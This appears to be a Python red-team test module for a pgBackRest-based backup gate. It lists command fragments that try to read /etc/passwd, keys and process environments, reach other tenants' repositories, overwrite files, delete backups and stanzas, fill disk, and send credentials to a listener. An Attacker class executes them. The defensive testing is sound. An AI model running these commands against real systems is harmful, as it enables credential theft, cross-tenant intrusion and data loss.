# SPDX-License-Identifier: Apache-2.0
"""What somebody tries with stock pgBackRest who is root on the host of a member, and so has its key: at the gate of a restore that is open for it, at the repository
host, and at the servers of other members. pgBackRest's own list of who may use which stanza stops none of these: whoever is let in chooses the folder, the kind of
repository and the command. Rows for restore_agent_test.py and for the red team (of_gate.py)."""
import subprocess

import hosts

MEMBERS, SEATS = "/var/lib/reeve/members/", "/var/lib/reeve/stanzas/"

# Files of the repository host; {seat} is the folder of the own seat on it, {other} that of another tenant's.
READS = {
    "the passwd of the host": "--repo1-path=/ repo-get --raw etc/passwd",
    "the passwd of the host, by ..": "repo-get --raw ../etc/passwd",
    "the passwd of the host, by .. in the path": "--repo1-path=/repo/../../etc repo-get --raw passwd",
    "its own key": "--repo1-path=/gate repo-get --raw gate.key",
    "its own key, from the root": "--repo1-path=/ repo-get --raw gate/gate.key",
    "its own key, where it is kept": "--repo1-path=/ repo-get --raw key/gate.key",
    "the key of the host": "--repo1-path=/ repo-get --raw var/lib/reeve/agent/host.key",
    "another tenant's repository": "--repo1-path={other}/repo repo-ls --recurse",
    "a file of another tenant's repository": "--repo1-path={other}/repo repo-get --raw x",
    "another tenant's settings": "--repo1-path={other} repo-get --raw pgbackrest.conf",
    "everything of Reeve": "--repo1-path=/var/lib repo-ls --recurse",
    "settings of the host": "--repo1-path=/etc repo-ls --recurse",
    "the folder of its own seat": "--repo1-path={seat} repo-ls --recurse",
    "the passphrase in its environment": "--repo1-path=/proc/self repo-get --raw environ",
    "the environment of the first process": "--repo1-path=/proc/1 repo-get --raw environ",
    "the socket of systemd": "--repo1-path=/ repo-get --raw run/systemd/notify",
    "the kernel's files": "--repo1-path=/sys repo-ls kernel",
    "homes": "--repo1-path=/home repo-ls",
    "root's home": "--repo1-path=/root repo-ls",
}
# What would change something; {label} is one of the own backups, {stanza} the own stanza.
WRITES = {
    "a file among the WAL": "repo-put archive/x",
    "a file in the root": "--repo1-path=/ repo-put x",
    "a file among its settings": "--repo1-path=/gate repo-put x",
    "a file among WAL that was just received": "--repo1-path=/last repo-put x",
    "a program": "--repo1-path=/usr repo-put x",
    "the end of an own backup": "--set={label} --repo1-retention-full=1 expire",
    "the end of all own backups but one": "--repo1-retention-full=1 expire",
    "the end of WAL": "--repo1-retention-archive-type=full --repo1-retention-archive=1 --repo1-retention-full=1 expire",
    "a note at an own backup": "--set={label} --annotation=a=b annotate",
    "the end of the stanza": "stanza-delete --force",
    "another version of the stanza": "stanza-upgrade",
    "removed WAL": "repo-rm --recurse archive",
    "a removed backup": "repo-rm --recurse backup/{stanza}/{label}",
}
FILL = "head -c 20000000 /dev/zero | {own}--repo1-path=/tmp repo-put x"
# Whoever listens at {address}:{port} would hear of it.
CONNECTIONS = {
    "a bucket": "--repo1-type=s3 --repo1-s3-bucket=b --repo1-s3-endpoint={address} --repo1-s3-region=r --repo1-s3-key=k --repo1-s3-key-secret=s --repo1-s3-uri-style=path "
                "--repo1-storage-port={port} --no-repo1-storage-verify-tls",
    "a container of Azure": "--repo1-type=azure --repo1-azure-container=c --repo1-azure-account=a --repo1-azure-key=YQ== --repo1-azure-endpoint={address} --repo1-azure-uri-style=path "
                            "--repo1-storage-host={address} --repo1-storage-port={port} --no-repo1-storage-verify-tls",
    "a bucket of Google": "--repo1-type=gcs --repo1-gcs-bucket=b --repo1-gcs-key-type=token --repo1-gcs-key=t --repo1-gcs-endpoint={address}:{port} --no-repo1-storage-verify-tls",
    "a host by SFTP": "--repo1-type=sftp --repo1-sftp-host={address} --repo1-sftp-host-port={port} --repo1-sftp-host-user=u --repo1-sftp-private-key-file=/gate/gate.crt "
                      "--repo1-sftp-host-key-hash-type=sha256 --repo1-sftp-host-key-check-type=none",
}
SECRET_OPTIONS = ("s3-key", "s3-key-secret", "azure-account", "azure-key", "azure-endpoint", "gcs-key")  # which pgBackRest takes from its environment only


class Attacker:
    """Root on the host of a member, with that member's key; what is asked goes to one server."""

    def __init__(self, fleet, host, member, address, port, stanza, server_config="/gate/pgbackrest.conf", authority=None, certificate=None, name="attack"):
        """`member`: the folder of the one whose key it is; `certificate`: (certificate, key) on that host instead of the member's."""
        self.fleet, self.host, self.stanza, self.name = fleet, host, stanza, name
        crt, key = certificate or (member + "/tls/cluster.crt", member + "/tls/cluster.key")
        # As root, pgBackRest takes a key that nobody else can read, and no other.
        hosts.run(fleet, host, "install", "-m", "600", key, "/root/%s.key" % name)
        hosts.write_file(fleet, host, "/root/%s.conf" % name, "[global]\nrepo1-host=%s\nrepo1-host-port=%d\nrepo1-host-type=tls\nrepo1-host-config=%s\nrepo1-host-ca-file=%s\n"
                         "repo1-host-cert-file=%s\nrepo1-host-key-file=/root/%s.key\nio-timeout=5\nlog-level-file=off\nlock-path=/tmp/x\n[%s]\npg1-path=%s/data\n" % (
                             address, port, server_config, authority or member + "/tls/cluster-authority.crt", crt, name, stanza, member))

    @property
    def own(self):
        return "pgbackrest --config=/root/%s.conf --stanza=%s " % (self.name, self.stanza)

    def shell(self, command, timeout=60):
        return subprocess.run(hosts.command(self.fleet, self.host, ["sh", "-c", command]), capture_output=True, text=True, errors="replace", check=False, timeout=timeout)

    def reads(self, words):
        """What came back; None: nothing did."""
        answer = self.shell(self.own + words)
        return answer.stdout.strip()[:300] if answer.returncode == 0 and answer.stdout.strip() not in ("", ".") else None

    def writes(self, words):
        """What was said when it was done; None: it was not."""
        answer = self.shell("echo x | " + self.own + words)
        return "done: " + answer.stdout.strip()[:300] if answer.returncode == 0 else None

    def asks(self, words):
        """With the options that pgBackRest takes from the environment moved there; whether it works does not matter."""
        plain, secret = [], []
        for word in words.split():
            option = word[len("--repo1-"):].partition("=")
            (secret if option[0] in SECRET_OPTIONS else plain).append(word)
        environment = ["PGBACKREST_REPO1_%s=%s" % (one[len("--repo1-"):].partition("=")[0].upper().replace("-", "_"), one.partition("=")[2]) for one in secret]
        return self.shell("env %s %s %s repo-ls" % (" ".join(environment), self.own, " ".join(plain)))
